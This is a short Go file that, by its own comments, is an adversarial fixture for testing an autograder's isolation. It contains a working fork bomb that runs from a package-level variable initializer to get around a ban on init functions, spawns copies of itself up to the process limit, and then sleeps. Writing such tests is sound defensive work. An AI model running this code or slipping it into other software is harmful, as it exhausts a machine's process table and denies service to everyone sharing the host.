// Hostile code added to the a3 reference solution: the test grades the
// reference plus this file as one submission. See adversarial_test.go.
// Student files may not declare init, so the attack runs in a package-level
// variable's initializer, which Go runs just as early.
package main

import (
	"os"
	"time"
)

// bomb starts copies of itself until the process limit stops it, then
// waits.
var bomb = func() bool {
	for i := 0; i < 100000; i++ {
		if _, err := os.StartProcess(os.Args[0], os.Args, &os.ProcAttr{}); err != nil {
			break
		}
	}
	time.Sleep(time.Hour)
	return true
}()
